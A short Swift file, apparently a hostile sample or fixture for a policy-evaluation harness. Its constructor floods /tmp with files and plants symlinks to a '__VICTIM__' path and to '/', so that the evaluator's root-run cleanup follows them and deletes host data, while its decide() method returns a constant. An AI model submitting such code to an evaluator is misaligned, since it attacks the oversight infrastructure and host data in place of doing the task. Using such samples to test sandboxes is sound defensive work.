import CandidateAPI
import Glibc

// Fills its /tmp and plants symlinks to a host folder, hoping the evaluator's cleanup follows
// them as root.
struct Candidate: SpotPolicy {
    init() {
        for i in 0..<2000 {
            let fd = open("/tmp/f\(i)", O_WRONLY | O_CREAT, 0o644)
            if fd >= 0 { close(fd) }
        }
        for i in 0..<50 { _ = symlink("__VICTIM__", "/tmp/zz\(i)") }
        _ = symlink("/", "/tmp/zzroot")
    }
    mutating func decide(_ v: SpotView) -> Cluster { .onDemand }
}
